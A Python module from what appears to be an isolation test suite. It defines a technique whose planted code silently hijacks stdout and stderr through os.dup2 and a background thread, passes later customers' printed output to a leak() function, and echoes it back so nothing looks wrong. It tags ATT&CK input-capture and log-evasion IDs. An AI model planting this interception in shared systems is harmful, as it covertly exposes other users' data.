"""Puts a pipe of its own under the number of standard output and standard error, and reads what later customers' invocations print."""

from __future__ import annotations

from dayfly.lab.gauntlet.evidence import Cards
from dayfly.lab.gauntlet.technique import Technique

PLANT = """
import threading
inside, outside = os.pipe()
real = os.dup(1)
os.dup2(outside, 1)
os.dup2(outside, 2)
def carry():
    while True:
        data = os.read(inside, 65536)
        leak(data.decode(errors="replace"))
        os.write(real, data)
threading.Thread(target=carry, daemon=True).start()
"""

TECHNIQUE = Technique(
    level="L2",
    attack=("T1056", "T1562.006"),
    family="D4",
    must_fail_to="read a later customer's log line",
    plant=PLANT,
    evidence=Cards(),
)
